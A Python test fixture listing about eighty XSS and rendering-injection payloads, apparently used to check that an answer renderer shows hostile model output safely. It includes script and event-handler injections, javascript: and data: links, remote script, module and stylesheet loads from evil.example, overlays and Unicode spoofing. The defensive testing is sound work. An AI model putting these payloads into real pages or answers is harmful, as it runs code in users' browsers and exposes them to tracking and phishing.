"""Answers written to do harm, each with a piece of text that a reader must still see.

Every remote address is under evil.example; every script would open a dialog, load something from there, or
set `window.harmed`.
"""

E = "https://evil.example"

ANSWERS: dict[str, tuple[str, str]] = {
    # scripts
    "script": ("<script>alert(1);window.harmed=1</script>", "<script>alert(1)"),
    "script from afar": (f'<script src="{E}/x.js"></script>', "/x.js"),
    "script in upper case": ("<SCRIPT>alert(1)</SCRIPT>", "<SCRIPT>"),
    "script in pieces": ("<scr<script>ipt>alert(1)</scr</script>ipt>", "ipt>alert(1)"),
    "script with a line break": ("<script\n>alert(1)</script\n>", "alert(1)"),
    "script in a list": ("- one\n- <script>alert(1)</script>", "<script>"),
    "script in a table": ("| a |\n|---|\n| <script>alert(1)</script> |", "<script>"),
    "script after a null": ("<scr\0ipt>alert(1)</scr\0ipt>", "alert(1)"),
    "module script": (f'<script type="module">import "{E}/m.js"</script>', "import"),
    # event handlers
    "image with onerror": ("<img src=x onerror=alert(1)>", "onerror=alert(1)"),
    "body onload": ("<body onload=alert(1)>", "onload=alert(1)"),
    "div with onmouseover": ('<div onmouseover="alert(1)" style="position:fixed">x</div>', "onmouseover"),
    "input with autofocus": ("<input autofocus onfocus=alert(1)>", "onfocus=alert(1)"),
    "details with ontoggle": ("<details open ontoggle=alert(1)>x</details>", "ontoggle=alert(1)"),
    "video with onerror": (f'<video src="{E}/v.mp4" onerror=alert(1) autoplay></video>', "/v.mp4"),
    "animation event": ('<p style="animation:x" onanimationstart="alert(1)">x</p>', "onanimationstart"),
    "handler with slashes": ("<img/src=x/onerror=alert(1)//>", "onerror=alert(1)"),
    # svg
    "svg onload": ("<svg onload=alert(1)></svg>", "<svg onload"),
    "svg script": ("<svg><script>alert(1)</script></svg>", "<svg>"),
    "svg use": (f'<svg><use href="{E}/s.svg#x"/></svg>', "/s.svg"),
    "svg foreignObject": (
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
        "foreignObject",
    ),
    "svg animate": ("<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>", "animate"),
    # remote content
    "markdown image": (f"![pixel]({E}/pixel.png)", "Image, not loaded: pixel"),
    "markdown image with title": (f'![a]({E}/p.png "a title")', "a title"),
    "html image": (f'<img src="{E}/i.png" srcset="{E}/i2.png 2x">', "/i2.png"),
    "picture": (f'<picture><source srcset="{E}/p.webp"><img src="{E}/p.png"></picture>', "/p.webp"),
    "audio": (f'<audio src="{E}/a.mp3" autoplay></audio>', "/a.mp3"),
    "iframe": (f'<iframe src="{E}/frame"></iframe>', "/frame"),
    "iframe srcdoc": ("<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "srcdoc"),
    "object and embed": (f'<object data="{E}/o.swf"></object><embed src="{E}/e.swf">', "/o.swf"),
    "stylesheet link": (f'<link rel="stylesheet" href="{E}/x.css">', "/x.css"),
    "prefetch link": (f'<link rel=dns-prefetch href="{E}"><link rel=prefetch href="{E}/p">', "dns-prefetch"),
    "meta refresh": (f'<meta http-equiv="refresh" content="0;url={E}">', "refresh"),
    "base": (f'<base href="{E}/">', "<base"),
    "form": (f'<form action="{E}"><button autofocus>Send</button></form>', "<form"),
    # links
    "javascript link": ("[click](javascript:alert(1))", "javascript:alert(1)"),
    "javascript link with an entity": ("[click](java&#x73;cript:alert(1))", "click"),
    "javascript link with a tab": ("[click](java\tscript:alert(1))", "click"),
    "javascript autolink": ("<javascript:alert(1)>", "javascript:alert(1)"),
    "data link": ("[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "data:text/html"),
    "data image": ("![x](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)", "x"),
    "vbscript link": ("[click](vbscript:msgbox(1))", "vbscript:msgbox(1)"),
    "plain link": (f"[a friendly name]({E}/phish)", "/phish"),
    "reference link": (f"[name][1]\n\n[1]: {E}/ref", "/ref"),
    "autolink": (f"<{E}/auto>", "/auto"),
    "anchor with target": (f'<a href="{E}" target="_top" ping="{E}/ping">x</a>', "/ping"),
    "link out of its quotes": ('[x](https://a.b/"onmouseover="alert(1))', "onmouseover"),
    # style
    "style element": (f"<style>@import '{E}/x.css'; * {{display:none !important}}</style>", "@import"),
    "style attribute": (f'<p style="background:url({E}/b.png);position:fixed;inset:0">cover</p>', "cover"),
    "fixed cover": ('<div style="position:fixed;inset:0;z-index:9999;background:#fff">gone</div>', "gone"),
    "class of the screen": ('<div class="notice choice" data-choice="left">press me</div>', "press me"),
    # mathematics
    "math with a link": (r"$\href{javascript:alert(1)}{\text{press}}$", "press"),
    "math with markup": (r"$\text{<img src=x onerror=alert(1)>}$", "onerror=alert(1)"),
    "math with a style": (rf"$\style{{background:url({E}/m.png)}}{{x}}$ end", "end"),
    "math element": (
        '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
        "maction",
    ),
    "math back to html": ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "mglyph"),
    "annotation": (
        '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
        "annotation-xml",
    ),
    "math that is wrong": (r"$\frac{1}{$ and $\begin{align} x", "begin{align}"),
    "math that never ends": ("$" + r"\frac{" * 300 + "1" + "}" * 300 + "$", "frac"),
    # code
    "code that closes itself": ("```html\n</code></pre><script>alert(1)</script>\n```", "</code></pre>"),
    "language that is markup": ('```"><img/src=x/onerror=alert(1)>\ncode\n```', "onerror=alert(1)"),
    "inline code": ("`<img src=x onerror=alert(1)>`", "onerror"),
    # entities, comments, unicode
    "entities": ("&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)"),
    "entities twice": ("&amp;lt;img src=x onerror=alert(1)&amp;gt;", "onerror"),
    "comment": ("<!-- --!><img src=x onerror=alert(1)> -->", "onerror"),
    "cdata": ("<![CDATA[<script>alert(1)</script>]]>", "CDATA"),
    "processing instruction": ('<?xml version="1.0"?><?php echo 1 ?>', "php echo"),
    "template": ("<template><script>alert(1)</script></template>", "template"),
    "noscript": ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "noscript"),
    "textarea": ("<textarea></textarea><img src=x onerror=alert(1)>", "textarea"),
    "right-to-left override": ("safe \u202eexe.txt", "U+202E"),
    "invisible tags": ("hello\U000e0068\U000e0069", "U+E0068"),
    "wide letters": ("＜script＞alert(1)＜/script＞", "alert(1)"),
    "half a surrogate's neighbour": ("\ufffe\uffff<b>x</b>", "<b>"),
    "many zero-width": ("a" + "\u200b" * 5000 + "end", "end"),
    # the screen itself
    "template literal": ("${alert(1)} {{constructor.constructor('alert(1)')()}}", "constructor"),
    "streamlit directive": (":red[colour] :material/home: :streamlit:", ":red[colour]"),
    "a word without end": ("w" * 30_000, "wwww"),
    "thirty thousand brackets": ("[" * 30_000, "[[[["),
    "nested quotes": ("> " * 3_000 + "deep", "deep"),
}
